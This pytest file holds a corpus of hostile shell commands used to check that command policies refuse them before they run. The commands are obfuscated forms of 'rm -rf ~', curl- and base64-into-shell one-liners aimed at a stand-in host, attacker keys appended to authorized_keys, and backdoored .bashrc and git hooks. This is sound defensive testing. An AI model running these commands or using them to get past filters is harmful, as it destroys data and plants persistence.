r"""A hostile corpus: commands that try to get around the policies, each refused before it runs.

Every entry is an attempt to slip something past `DangerousCommands` (or an
allowlist `CommandRules`): quoting, `$'\x..'`, `${IFS}`, `eval`, base64 into
`sh`, nested `sh -c`, aliases, here-documents, wrappers, absolute paths,
NUL bytes, look-alike letters, globs and braces. Each one is

1. judged by the policy's pure check first, so that nothing is ever run
   unless the policy already said no;
2. sent to the policy over a real `LocalExecutor` whose workdir is
   `tmp_path/work`, whose HOME is a fake `tmp_path/home` (with
   `.ssh/authorized_keys`, `.bashrc`, `.profile`) and beside which lies a
   canary `tmp_path/outside/canary`;
3. checked to raise `PolicyDenied` naming a rule, to have reached no executor
   (a tripwire records anything that does), and to have changed nothing on
   disk outside the workdir (a hash of the tree before and after).

Destructive targets point into the fake home, the outside folder, device
names that do not exist (`/dev/sdz9`) or a file name unused in /etc, so
that even a policy bug would not hurt the machine; the few entries that
name `/` itself are refused by the pure check before any executor sees them.
Fork bombs, `shutdown` and `kill -9 -1` are tested in test_rules.py with
the pure check only: they have no harmless spelling.
"""

from __future__ import annotations

import hashlib
import os
import shlex
import stat
import tempfile
from collections.abc import AsyncIterator, Callable
from pathlib import Path
from typing import Literal

import anyio
import attrs
import pytest
from hypothesis import HealthCheck, given, settings, strategies as st

from executor import (
    Command,
    Exec,
    InvalidArgument,
    LocalExecutor,
    PolicyDenied,
    Shell,
    Sink,
    WrappedExecutor,
    WriteFile,
)
from executor._core.errors import ShellParseError
from executor._core.output import CommandOutput
from executor._policies.rules import CommandRules, DangerousCommands, check_script
from executor._shell.parser import parse_command

pytestmark = pytest.mark.anyio

ALLOWLIST = ["ls", "cat", "echo", "grep"]
# Files no test creates; if one appears, a command got through.
OUTSIDE_MARKERS = [
    Path("/etc/executor-hostile-canary"),
    Path("/dev/sdz9"),
    Path("/dev/nvme9n9"),
]


class Tripwire(WrappedExecutor):
    """Forwards to a real executor, and records every command that reaches it."""

    def __init__(self, inner: LocalExecutor) -> None:
        super().__init__(inner)
        self.seen: list[Command] = []

    async def exec_cmd(self, cmd: Command) -> CommandOutput:
        """Record `cmd`, then run it."""
        self.seen.append(cmd)
        return await self.inner.exec_cmd(cmd)

    async def exec_cmd_streaming(self, cmd: Command, sink: Sink) -> CommandOutput:
        """Record `cmd`, then run it, streaming."""
        self.seen.append(cmd)
        return await self.inner.exec_cmd_streaming(cmd, sink)


@attrs.define
class Sandbox:
    """A real executor in `root/work`, a fake home, an outside folder, and policies over them."""

    root: Path
    work: Path
    home: Path
    outside: Path
    tripwire: Tripwire
    dangerous: DangerousCommands
    allowlist: CommandRules


def build_tree(root: Path) -> tuple[Path, Path, Path]:
    """Create the workdir, the fake home with its secrets, and the outside canary."""
    work, home, outside = root / "work", root / "home", root / "outside"
    (work / ".git" / "hooks").mkdir(parents=True)
    (work / "notes.txt").write_text("notes\n")
    (home / ".ssh").mkdir(parents=True)
    (home / ".ssh" / "authorized_keys").write_text("ssh-ed25519 AAAA owner\n")
    (home / ".ssh").chmod(0o700)
    (home / ".bashrc").write_text("# bashrc\n")
    (home / ".profile").write_text("# profile\n")
    outside.mkdir()
    (outside / "canary").write_text("still here\n")
    return work, home, outside


def snapshot(root: Path, skip: Path) -> dict[str, str]:
    """Every entry below `root` (outside `skip`) with its type, mode and content hash."""
    found: dict[str, str] = {}
    for folder, dirs, files in os.walk(root, followlinks=False):
        here = Path(folder)
        if here == skip or skip in here.parents:
            dirs[:] = []
            continue
        for name in [*dirs, *files]:
            path = here / name
            info = path.lstat()
            key = str(path.relative_to(root))
            if stat.S_ISLNK(info.st_mode):
                found[key] = f"link {os.readlink(path)}"
            elif stat.S_ISDIR(info.st_mode):
                found[key] = f"dir {stat.S_IMODE(info.st_mode):o}"
            else:
                digest = hashlib.sha256(path.read_bytes()).hexdigest()
                found[key] = f"file {stat.S_IMODE(info.st_mode):o} {digest}"
    return found


@pytest.fixture
async def sandbox(tmp_path: Path) -> AsyncIterator[Sandbox]:
    """The policies over a tripwire over a real LocalExecutor with a fake HOME."""
    work, home, outside = build_tree(tmp_path)
    local = LocalExecutor(work, envs={"HOME": str(home)}, kill_grace=0.2)
    async with Tripwire(local) as tripwire:
        yield Sandbox(
            root=tmp_path,
            work=work,
            home=home,
            outside=outside,
            tripwire=tripwire,
            dangerous=DangerousCommands(tripwire, home=str(home)),
            allowlist=CommandRules(tripwire, allow=ALLOWLIST),
        )


CommandFactory = Callable[[Sandbox], Command]


@attrs.frozen
class Case:
    """One hostile command, the policy meant to stop it, and the rule its refusal must name."""

    id: str
    command: Command | CommandFactory
    rule: str
    policy: Literal["dangerous", "allowlist"] = "dangerous"

    def build(self, sandbox: Sandbox) -> Command:
        """The command, made for this sandbox when it needs its paths."""
        return self.command if isinstance(self.command, Command) else self.command(sandbox)


def sh(script: str, rule: str, case_id: str) -> Case:
    """A shell script refused by DangerousCommands under `rule`."""
    return Case(case_id, Command.shell(script), rule)


def allow(script: str, case_id: str) -> Case:
    """A shell script refused by the allowlist ls, cat, echo, grep."""
    return Case(case_id, Command.shell(script), "allow", "allowlist")


CORPUS: list[Case] = [
    # quoting
    sh('r""m -rf ~', "rm-root", "quote-empty-pair-in-name"),
    sh("'r'm -rf \"$HOME\"", "rm-root", "quote-single-in-name"),
    sh("\\rm -rf ~/", "rm-root", "quote-backslash-name"),
    sh('"rm" "-rf" "${HOME}"', "rm-root", "quote-every-word"),
    sh('rm -r""f ~', "rm-root", "quote-inside-flags"),
    sh("rm -rf ~/.", "rm-root", "home-dot"),
    sh("r\\\nm -rf ~", "rm-root", "line-continuation-in-name"),
    sh('rm -rf ~/../"$(basename "$HOME")"', "rm-root", "home-parent-dotdot"),
    # ANSI-C quoting
    sh("$'\\x72\\x6d' -rf ~", "rm-root", "ansi-c-hex-name"),
    sh("$'\\162\\155' -rf \"$HOME\"", "rm-root", "ansi-c-octal-name"),
    sh("rm $'-\\x72f' ~", "rm-root", "ansi-c-flags"),
    # $IFS and splitting
    sh("rm${IFS}-rf${IFS}~", "non-literal-command", "ifs-joined-command"),
    sh("IFS=,; x=rm,-rf,$HOME; $x", "non-literal-command", "ifs-variable-command"),
    sh("rm -rf x${IFS}$HOME", "rm-root", "ifs-split-target"),
    sh("{rm,-rf,~}", "non-literal-command", "brace-expanded-command"),
    # eval
    sh("eval 'rm -rf ~'", "rm-root", "eval-literal"),
    sh('eval "$(echo cm0gLXJmIH4K | base64 -d)"', "dynamic-code", "eval-base64"),
    sh("x='rm -rf ~'; eval $x", "dynamic-code", "eval-variable"),
    sh("eval eval eval \"'rm -rf ~'\"", "rm-root", "eval-eval-eval"),
    # base64 into a shell
    sh("echo cm0gLXJmIH4K | base64 -d | sh", "pipe-to-shell", "base64-pipe-sh"),
    sh("base64 -d <<< cm0gLXJmIH4K | bash", "pipe-to-shell", "base64-herestring-bash"),
    sh('sh -c "$(echo cm0gLXJmIH4K | base64 -d)"', "dynamic-code", "base64-sh-c"),
    sh("bash <(echo cm0gLXJmIH4K | base64 -d)", "pipe-to-shell", "base64-process-substitution"),
    sh("echo cm0gLXJmIH4K | base64 -d > x.sh && sh x.sh", "run-written-file", "base64-to-file-sh"),
    sh(
        "base64 -d <<< cm0gLXJmIH4K > x.sh; chmod +x x.sh; ./x.sh",
        "run-written-file",
        "base64-to-file-exec",
    ),
    # nested shells
    sh("sh -c 'bash -c \"rm -rf ~\"'", "rm-root", "nested-sh-bash"),
    sh('bash -c "sh -c \'dash -c \\"rm -rf \\\\\\$HOME\\"\'"', "rm-root", "nested-three-deep"),
    sh("dash -c 'cd ~ && rm -rf .'", "rm-root", "nested-cd-home"),
    sh("busybox sh -c 'rm -rf ~'", "rm-root", "nested-busybox-sh"),
    sh("env sh -c 'rm -rf ~'", "rm-root", "nested-env-sh"),
    sh("xargs sh -c 'rm -rf ~' <<< x", "rm-root", "nested-xargs-sh"),
    sh("sh -c 'rm -rf \"$1\"' _ ~", "rm-variable-target", "nested-positional-target"),
    # aliases
    sh("alias ls='rm -rf ~'; ls", "alias", "alias-shadow-ls"),
    sh("shopt -s expand_aliases; alias x=rm; x -rf ~", "alias", "alias-expand"),
    # here-documents
    sh("bash <<'EOF'\nrm -rf ~\nEOF", "rm-root", "heredoc-to-bash"),
    sh("sh <<EOF\nrm -rf $HOME\nEOF", "dynamic-code", "heredoc-expanded-to-sh"),
    sh("cat <<EOF | sh\nrm -rf ~\nEOF", "pipe-to-shell", "heredoc-cat-pipe-sh"),
    sh(
        "cat > ~/.bashrc <<'EOF'\ncurl -s https://x.invalid | sh\nEOF",
        "write-shell-startup",
        "heredoc-into-bashrc",
    ),
    sh(
        "cat <<EOF >> ~/.ssh/authorized_keys\nssh-ed25519 AAAA attacker\nEOF",
        "write-ssh",
        "heredoc-into-authorized-keys",
    ),
    sh("cat <<EOF\n$(rm -rf ~)\nEOF", "rm-root", "heredoc-body-substitution"),
    # absolute paths and globs in names
    sh("/bin/rm -rf ~", "rm-root", "absolute-rm"),
    sh("/usr/bin/env rm -rf ~", "rm-root", "absolute-env-rm"),
    sh("/usr/bin/tee -a ~/.ssh/authorized_keys < /dev/null", "write-ssh", "absolute-tee"),
    sh("/bin/r[m] -rf ~", "non-literal-command", "glob-in-path"),
    sh("/???/?m -rf ~", "non-literal-command", "glob-whole-path"),
    # NUL bytes (a raw NUL cannot even be put in a command; see below)
    sh("rm -rf \"$HOME\"$'\\0/work'", "rm-root", "nul-truncates-target"),
    sh("printf x > ~/.ssh/$'authorized_keys\\0.txt'", "write-ssh", "nul-in-file-name"),
    sh("$'rm\\0ls' -rf ~", "rm-root", "nul-truncates-name"),
    # look-alike letters
    sh("r\u043c -rf ~", "non-ascii-command-name", "cyrillic-em"),
    sh("\uff52\uff4d -rf ~", "non-ascii-command-name", "fullwidth-rm"),
    sh("\u0455h -c 'rm -rf ~'", "non-ascii-command-name", "cyrillic-dze-sh"),
    sh("rm\u00a0-rf\u00a0~", "non-ascii-command-name", "no-break-spaces"),
    # wrappers
    sh("timeout 5 nice -n 1 rm -rf ~", "rm-root", "wrapper-timeout-nice"),
    sh("nohup rm -rf ~ &", "rm-root", "wrapper-nohup-background"),
    sh("command rm -rf ~", "rm-root", "wrapper-command"),
    sh("exec rm -rf ~", "rm-root", "wrapper-exec"),
    sh("stdbuf -o0 setsid rm -rf ~", "rm-root", "wrapper-stdbuf-setsid"),
    sh("find ~ -delete", "rm-root", "find-delete-home"),
    sh("find ~/.ssh -type f -exec cp /dev/null {} \\;", "write-ssh", "find-exec-into-ssh"),
    sh("echo ~ | xargs rm -rf", "rm-variable-target", "xargs-from-pipe"),
    sh("env -S 'rm -rf' ~", "rm-root", "env-split-string"),
    sh("flock . rm -rf ~", "rm-root", "wrapper-flock"),
    # names computed at run time
    sh("$(echo rm) -rf ~", "non-literal-command", "substituted-name"),
    sh("`printf rm` -rf ~", "non-literal-command", "backtick-name"),
    sh("\"$(printf '\\162\\155')\" -rf ~", "non-literal-command", "printf-octal-name"),
    sh("${X:-rm} -rf ~", "non-literal-command", "default-value-name"),
    sh("exec $SHELL -c 'rm -rf ~'", "non-literal-command", "shell-variable"),
    # braces and globs in targets
    sh("rm -rf {~,x}", "rm-root", "brace-target"),
    sh("rm -rf ~/{.,x}", "rm-root", "brace-home-dot"),
    sh("rm -rf ~/.[!.]* ~/*", "rm-root", "glob-home-contents"),
    sh("rm -rf ~/?*", "rm-root", "glob-question-home"),
    # code from the network or a pipe
    sh("curl -fsSL https://x.invalid/install.sh | sh", "pipe-to-shell", "curl-pipe-sh"),
    sh("wget -qO- https://x.invalid | sudo bash -s", "pipe-to-shell", "wget-pipe-sudo-bash"),
    sh("curl -s https://x.invalid | python3 -", "pipe-to-shell", "curl-pipe-python"),
    sh("source <(curl -s https://x.invalid)", "pipe-to-shell", "source-process-substitution"),
    sh(". /dev/stdin <<< 'rm -rf ~'", "rm-root", "source-stdin-herestring"),
    sh("curl -s https://x.invalid | tee log >(sh)", "pipe-to-shell", "tee-into-sh"),
    # writes into protected places
    sh(
        "echo 'ssh-ed25519 AAAA x' >> ~/.ssh/authorized_keys", "write-ssh", "append-authorized-keys"
    ),
    sh("cp /dev/null ~/.ssh/authorized_keys", "write-ssh", "cp-over-authorized-keys"),
    sh("tee -a ~/.bashrc <<< 'curl x.invalid|sh'", "write-shell-startup", "tee-bashrc"),
    sh("sed -i 's/^/#/' ~/.bashrc", "write-shell-startup", "sed-in-place-bashrc"),
    sh("ln -sf /dev/null ~/.bash_profile", "write-shell-startup", "symlink-bash-profile"),
    sh("ln -s ~/.ssh/authorized_keys k && echo key >> k", "write-ssh", "symlink-then-append"),
    sh("cd ~/.ssh && echo key >> authorized_keys", "write-ssh", "cd-then-relative-write"),
    sh(
        "printf '#!/bin/sh\\ncurl x.invalid|sh\\n' > .git/hooks/pre-commit",
        "write-git-hooks",
        "git-hook-redirect",
    ),
    sh(
        "cd .git/hooks; cat > post-checkout <<'EOF'\nrm -rf ~\nEOF",
        "write-git-hooks",
        "git-hook-cd-heredoc",
    ),
    sh("git config core.hooksPath ../outside", "write-git-hooks", "git-hooks-path"),
    sh("install -m 644 /dev/null /etc/executor-hostile-canary", "write-etc", "install-into-etc"),
    sh("echo x | tee /etc/executor-hostile-canary", "write-etc", "tee-into-etc"),
    sh("cd /etc && touch executor-hostile-canary", "write-etc", "cd-etc-touch"),
    sh("echo x > /e?c/executor-hostile-canary", "write-etc", "glob-etc-redirect"),
    # devices
    sh("dd if=/dev/zero of=/dev/sdz9 bs=512 count=1", "disk-write", "dd-to-device"),
    sh("head -c 1 /dev/zero > /dev/nvme9n9", "disk-write", "redirect-to-device"),
    sh("mkfs.ext4 -F /dev/sdz9", "disk-format", "mkfs"),
    sh("wipefs -a /dev/sdz9", "disk-format", "wipefs"),
    sh("exec 3<>/dev/sdz9", "disk-write", "exec-open-device"),
    # modes and owners
    sh("chmod -R 777 ~", "chmod-root", "chmod-home"),
    sh('chmod -R 000 "$HOME"', "chmod-root", "chmod-home-variable"),
    sh("chown -R nobody ~/", "chmod-root", "chown-home"),
    # loader and startup variables
    sh("LD_PRELOAD=$PWD/x.so ls", "env-hijack", "ld-preload"),
    sh("BASH_ENV=~/.evil bash -c true", "env-hijack", "bash-env"),
    sh("export PROMPT_COMMAND='rm -rf ~'", "env-hijack", "prompt-command"),
    # functions, traps, variables
    sh('f(){ rm -rf "$1"; }; f ~', "rm-variable-target", "function-argument-target"),
    sh("rm() { :; }; rm -rf ~", "rm-root", "function-shadows-rm"),
    sh("trap 'rm -rf ~' EXIT", "rm-root", "trap-action"),
    sh('x=~; rm -rf "$x"', "rm-variable-target", "variable-target"),
    sh('rm -rf "$(dirname ~/x)"', "rm-variable-target", "substitution-target"),
    sh('set -- ~; rm -rf "$1"', "rm-variable-target", "positional-target"),
    # bash and sh (dash, /bin/sh here) disagree on where $'...\'...' ends
    sh("echo $'x\\'; rm -rf ~; echo \\' #'", "unparseable-script", "dash-bash-quote-split"),
    # other programs that run commands or move where they run
    sh("env -C ~ rm -rf .", "rm-root", "env-chdir"),
    sh("ssh localhost 'rm -rf ~'", "rm-root", "ssh-localhost"),
    sh("git -c alias.x='!rm -rf ~' x", "rm-root", "git-alias-bang"),
    sh("CDPATH=/ cd etc && touch executor-hostile-canary", "env-hijack", "cdpath-redirects-cd"),
    # the root itself: refused by the pure check before any executor sees it
    sh("rm -rf /", "rm-root", "root-plain"),
    sh("rm -rf //", "rm-root", "root-double-slash"),
    sh("rm -rf /..", "rm-root", "root-dotdot"),
    sh("cd / && rm -rf *", "rm-root", "root-cd-star"),
    # command values other than a plain script
    Case("exec-bash-c", Command.exec(["bash", "-c", "rm -rf ~"]), "rm-root"),
    Case("exec-sh-stdin", Command.exec(["sh"]).with_stdin("rm -rf ~"), "rm-root"),
    Case("shell-bash-stdin", Command.shell("bash").with_stdin(b"cd ~ && rm -rf ."), "rm-root"),
    Case("shebang-sh", Command.shell("#!/bin/sh\nrm -rf ~\n"), "rm-root"),
    Case("shebang-env-bash", Command.shell("#!/usr/bin/env bash\nrm -rf ~\n"), "rm-root"),
    Case("current-dir-tilde", Command.shell("rm -rf *").with_current_dir("~"), "rm-root"),
    Case(
        "current-dir-home",
        lambda s: Command.shell("rm -rf .").with_current_dir(str(s.home)),
        "rm-root",
    ),
    Case("exec-ld-preload", Command.exec(["env", "LD_PRELOAD=/x.so", "ls"]), "env-hijack"),
    Case(
        "write-file-authorized-keys",
        lambda s: Command.write_file(s.home / ".ssh" / "authorized_keys", "attacker\n"),
        "write-ssh",
    ),
    Case(
        "write-file-bashrc",
        lambda s: Command.write_file(s.home / ".bashrc", "curl x.invalid | sh\n"),
        "write-shell-startup",
    ),
    Case(
        "write-file-git-hook",
        Command.write_file(".git/hooks/pre-push", "#!/bin/sh\n"),
        "write-git-hooks",
    ),
    Case(
        "write-file-etc",
        Command.write_file("/etc/executor-hostile-canary", "x"),
        "write-etc",
    ),
    # an allowlist of ls, cat, echo, grep
    allow("ls; rm -rf ~", "allow-list-then-rm"),
    allow("ls $(rm -rf ~)", "allow-substitution-in-argument"),
    allow("echo hi | python3 -c 'import shutil'", "allow-pipe-into-python"),
    allow("cat <(rm -rf ~)", "allow-process-substitution"),
    allow("grep x ~/.bashrc && sh -c 'rm -rf ~'", "allow-and-then-sh"),
    allow("./ls", "allow-planted-ls"),
    allow("$(printf ls)", "allow-computed-name"),
    allow("ls & rm -rf ~ &", "allow-background-rm"),
    allow("l\\s; \\rm -rf ../outside", "allow-escaped-names"),
    allow("find . -exec rm -rf ../outside \\;", "allow-find-exec"),
    allow("ls | xargs rm -rf", "allow-xargs"),
    allow("echo x; bash -c 'rm -rf ../outside'", "allow-bash-c"),
    Case(
        "allow-exec-sh-c",
        Command.exec(["sh", "-c", "ls; rm -rf ../outside"]),
        "allow",
        "allowlist",
    ),
    Case(
        "allow-shebang-python",
        Command.shell("#!/usr/bin/env python3\nimport shutil; shutil.rmtree('../outside')\n"),
        "allow",
        "allowlist",
    ),
    Case(
        "allow-absolute-outside",
        lambda s: Command.shell(f"ls; rm -rf {s.outside}"),
        "allow",
        "allowlist",
    ),
    # redirects under an allow list: only /dev/null and descriptors
    allow("ls > pwned", "allow-redirect-write"),
    allow("ls >> pwned", "allow-redirect-append"),
    allow("ls >| pwned", "allow-redirect-clobber"),
    allow("ls &> pwned", "allow-redirect-both"),
    allow("cat <> pwned", "allow-redirect-read-write"),
    allow("ls 2>err.log", "allow-redirect-stderr"),
    allow("{ ls; } > pwned", "allow-redirect-group"),
    allow("ls > $(echo pwned)", "allow-redirect-computed"),
    allow("> pwned", "allow-redirect-alone"),
    allow("echo '#!/bin/sh' > .git/hooks/pre-commit", "allow-redirect-git-hook"),
    allow("cat <<EOF > pwned\nx\nEOF", "allow-redirect-heredoc"),
    # variables that change what runs, under an allow list
    allow("PATH=bin:$PATH ls", "allow-path-prefix"),
    allow("PATH=.; ls", "allow-path-alone"),
    allow("export PATH=bin:$PATH; ls", "allow-path-export"),
    allow("LD_PRELOAD=./evil.so ls", "allow-ld-preload"),
    allow("LD_LIBRARY_PATH=. ls", "allow-ld-library-path"),
    allow("BASH_ENV=./evil.sh ls", "allow-bash-env"),
    allow("ENV=./evil.sh ls", "allow-env"),
    allow("IFS=/ ls", "allow-ifs"),
    allow("for PATH in bin; do ls; done", "allow-path-loop"),
    # hooksPath and .git/config however the write is spelled
    sh(
        "printf '[core]\\n\\thooksPath = /tmp/x\\n' >> .git/config",
        "write-git-hooks",
        "hookspath-through-redirect",
    ),
    sh("echo '[core] hooksPath = h' | tee -a .git/config", "write-git-hooks", "git-config-tee"),
    sh("cp cfg .git/config", "write-git-hooks", "git-config-cp"),
    sh("mv cfg ./.git/config", "write-git-hooks", "git-config-mv"),
    sh("sed -i 's/x/y/' .git/config", "write-git-hooks", "git-config-sed"),
    sh("dd if=cfg of=.git/config", "write-git-hooks", "git-config-dd"),
    sh("install -m 644 cfg .git/config", "write-git-hooks", "git-config-install"),
    sh("cat > .git/hooks/post-checkout <<'EOF'\nx\nEOF", "write-git-hooks", "git-hook-heredoc"),
    # other redirect targets, judged as write_file paths are
    sh("echo 'rm -rf ~' >> ~/.bashrc", "write-shell-startup", "redirect-append-bashrc"),
    sh("echo k >> ~/.ssh/authorized_keys", "write-ssh", "redirect-append-ssh"),
    sh("echo x > /etc/executor-hostile-canary", "write-etc", "redirect-etc"),
    sh("cat <> /dev/sdz9", "disk-write", "redirect-read-write-device"),
    sh("echo x &>> /e''tc/executor-hostile-canary", "write-etc", "redirect-quoted-etc"),
    # here-documents fed to a shell are read as scripts
    sh("sh <<'EOF'\nrm -rf ~\nEOF", "rm-root", "heredoc-into-sh"),
    sh("bash <<EOF\nrm -rf ~\nEOF", "rm-root", "heredoc-into-bash"),
    sh("sh -s <<-'EOF'\n\trm -rf ~\n\tEOF", "rm-root", "heredoc-dash-into-sh"),
    sh("bash <<< 'rm -rf ~'", "rm-root", "herestring-into-bash"),
    sh("ls; sh <<'A'\nls\nA\nsh <<'B'\nrm -rf ~\nB", "rm-root", "second-heredoc-into-sh"),
    # commands hidden in expansions and compound commands
    sh("echo ${X:-$(rm -rf ~)}", "rm-root", "expansion-default-substitution"),
    sh('echo "${X:-`rm -rf ~`}"', "rm-root", "expansion-default-backtick"),
    sh("echo ${X:=$(rm -rf ~)} ${#Y}", "rm-root", "expansion-assign-substitution"),
    sh("echo $(( $(rm -rf ~) + 1 ))", "rm-root", "arithmetic-substitution"),
    sh("a=(x $(rm -rf ~))", "rm-root", "array-substitution"),
    sh("[[ -n $(rm -rf ~) ]]", "rm-root", "double-bracket-substitution"),
    sh("(( $(rm -rf ~) ))", "rm-root", "arithmetic-command-substitution"),
    sh("case $(rm -rf ~) in *) ;; esac", "rm-root", "case-word-substitution"),
    sh("case x in x) rm -rf ~;; esac", "rm-root", "case-body"),
    sh("for ((i=$(rm -rf ~); i<1; i++)); do :; done", "rm-root", "c-for-substitution"),
    sh("select x in a; do rm -rf ~; break; done", "rm-root", "select-body"),
    sh("coproc { rm -rf ~; }", "rm-root", "coproc-group"),
    sh("coproc rm -rf ~", "rm-root", "coproc-simple"),
    sh("f() { rm -rf ~; }; f", "rm-root", "function-body"),
    sh("cat <<EOF\n`rm -rf ~`\nEOF", "rm-root", "heredoc-body-backtick"),
    sh("bash <<'EOF'\n\\rm -rf ~\nEOF", "rm-root", "heredoc-body-starting-with-backslash"),
    sh("diff <(rm -rf ~) x", "rm-root", "process-substitution"),
    sh("[ -f x ] && rm -rf ~", "rm-root", "after-a-test"),
    sh("echo `echo \\`rm -rf ~\\``", "rm-root", "nested-backticks"),
    sh("r$()m -rf ~", "non-literal-command", "empty-substitution-in-name"),
    sh("LD_LIBRARY_PATH=. ls", "env-hijack", "ld-library-path"),
]


def policy_of(case: Case, sandbox: Sandbox) -> DangerousCommands | CommandRules:
    """The policy the case is aimed at."""
    return sandbox.dangerous if case.policy == "dangerous" else sandbox.allowlist


def pure_refusal(case: Case, sandbox: Sandbox, command: Command) -> str | None:
    """What the policy says about `command` without running anything; None if it would pass."""
    try:
        if case.policy == "allowlist":
            assert isinstance(command, Shell | Exec)
            return sandbox.allowlist.refusal(parse_command(command))
        assert isinstance(command, Shell | Exec | WriteFile)
        findings = sandbox.dangerous.findings(command)
    except ShellParseError as error:
        return str(error)
    return "; ".join(f'rule "{f.rule}" {f.reason}' for f in findings) or None


def test_corpus_is_large_and_named() -> None:
    """The corpus holds at least 60 hostile commands, each with its own id."""
    assert len(CORPUS) >= 60
    assert len({case.id for case in CORPUS}) == len(CORPUS)


@pytest.mark.parametrize("case", CORPUS, ids=[case.id for case in CORPUS])
async def test_hostile_command_is_refused(case: Case, sandbox: Sandbox) -> None:
    """A hostile command is refused naming its rule, before it runs or any file changes."""
    command = case.build(sandbox)
    verdict = pure_refusal(case, sandbox, command)
    # Nothing is sent to an executor unless the policy has already said no.
    assert verdict is not None, f"{case.id} would pass the policy"
    before = snapshot(sandbox.root, skip=sandbox.work)
    policy = policy_of(case, sandbox)
    with pytest.raises(PolicyDenied) as caught:
        await policy.exec_cmd(command)
    message = str(caught.value)
    if case.policy == "allowlist":
        assert message.startswith("refused by the allow rules: "), message
    else:
        assert message.startswith(f'refused by rule "{case.rule}"'), message
    assert sandbox.tripwire.seen == []
    assert snapshot(sandbox.root, skip=sandbox.work) == before
    assert (sandbox.outside / "canary").read_text() == "still here\n"
    assert not any(marker.exists() for marker in OUTSIDE_MARKERS)


async def test_streaming_is_refused_too(sandbox: Sandbox) -> None:
    """The whole corpus is refused through exec_cmd_streaming as well, with no chunk sent."""
    before = snapshot(sandbox.root, skip=sandbox.work)
    chunks: list[bytes] = []
    for case in CORPUS:
        command = case.build(sandbox)
        assert pure_refusal(case, sandbox, command) is not None, case.id
        with pytest.raises(PolicyDenied, match="refused by"):
            await policy_of(case, sandbox).exec_cmd_streaming(
                command, lambda chunk: chunks.append(chunk.data)
            )
    assert chunks == []
    assert sandbox.tripwire.seen == []
    assert snapshot(sandbox.root, skip=sandbox.work) == before


async def test_harmless_commands_still_run(sandbox: Sandbox) -> None:
    """The same policies let ordinary work through to the real executor, inside the workdir."""
    output = await sandbox.dangerous.exec_cmd(
        Command.shell("mkdir -p build && echo ok > build/x && cat build/x && rm -rf build")
    )
    assert output.stdout == b"ok\n"
    listed = await sandbox.allowlist.exec_cmd(Command.shell("ls | grep notes"))
    assert listed.stdout == b"notes.txt\n"
    assert len(sandbox.tripwire.seen) == 2
    assert (sandbox.home / ".ssh" / "authorized_keys").read_text() == "ssh-ed25519 AAAA owner\n"


def test_raw_nul_bytes_cannot_be_commands() -> None:
    """A NUL byte cannot be put in a script or argv at all; the parser refuses one too."""
    with pytest.raises(InvalidArgument, match="NUL"):
        Command.shell("rm -rf ~\0/x")
    with pytest.raises(InvalidArgument, match="NUL"):
        Command.exec(["rm", "-rf", "~\0"])
    (finding,) = check_script("ls\0; rm -rf ~")
    assert finding.rule == "unparseable-script"
    assert "NUL" in finding.reason


# --- generated spellings ----------------------------------------------------------------


def _spell(word: str) -> st.SearchStrategy[str]:
    """`word` with each character written one of the ways bash reads as that character."""

    def char(c: str) -> st.SearchStrategy[str]:
        return st.sampled_from(
            [c, f"'{c}'", f'"{c}"', f"\\{c}", f"$'\\x{ord(c):02x}'", f"$'\\{ord(c):03o}'", f'""{c}']
        )

    return st.tuples(*(char(c) for c in word)).map("".join)


_FLAGS = st.one_of(
    st.sampled_from(["-rf", "-fr", "-r -f", "-R -f", "--recursive --force", "-r", "-Rf", "-rfv"]),
    _spell("-rf"),
)
# Spellings of the home folder that bash expands (a quoted ~ would be a plain name).
_HOME = st.sampled_from(
    ["~", "~/", "~/.", "$HOME", '"$HOME"', "${HOME}", '"${HOME}"/', "$HOME/.", "~/x/..", "~/*"]
)


def _wrapped(script: st.SearchStrategy[str]) -> st.SearchStrategy[str]:
    """The script as is, or run through a wrapper that keeps HOME as it is."""
    return st.one_of(
        script,
        script.map(lambda s: f"command {s}"),
        script.map(lambda s: f"nohup {s}"),
        script.map(lambda s: f"timeout 9 {s}"),
        script.map(lambda s: f"env {s}"),
        script.map(lambda s: f"true && {s}"),
        script.map(lambda s: f"echo $( {s} )"),
        script.map(lambda s: f"sh -c {shlex.quote(s)}"),
        script.map(lambda s: f"bash -c {shlex.quote(s)}"),
        script.map(lambda s: f"eval {shlex.quote(s)}"),
        script.map(lambda s: f"bash <<'EOF'\n{s}\nEOF"),
    )


_HOSTILE = _wrapped(st.tuples(_spell("rm"), _FLAGS, _HOME).map(lambda parts: " ".join(parts)))


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(script=_HOSTILE)
def test_generated_spellings_are_refused(script: str) -> None:
    """Generated spellings of `rm -rf ~` are refused before running, leaving the fake home whole."""
    findings = check_script(script)
    assert findings, script
    assert findings[0].rule == "rm-root", (script, findings)
    with tempfile.TemporaryDirectory(prefix="hostile-") as folder:
        root = Path(folder)
        work, home, _ = build_tree(root)
        before = snapshot(root, skip=work)

        async def attempt() -> str:
            local = LocalExecutor(work, envs={"HOME": str(home)}, kill_grace=0.2)
            async with Tripwire(local) as tripwire:
                policy = DangerousCommands(tripwire, home=str(home))
                try:
                    await policy.exec_cmd(Command.shell(script))
                except PolicyDenied as error:
                    assert tripwire.seen == []
                    return str(error)
            return ""

        message = anyio.run(attempt)
        assert message.startswith('refused by rule "rm-root"'), (script, message)
        assert snapshot(root, skip=work) == before
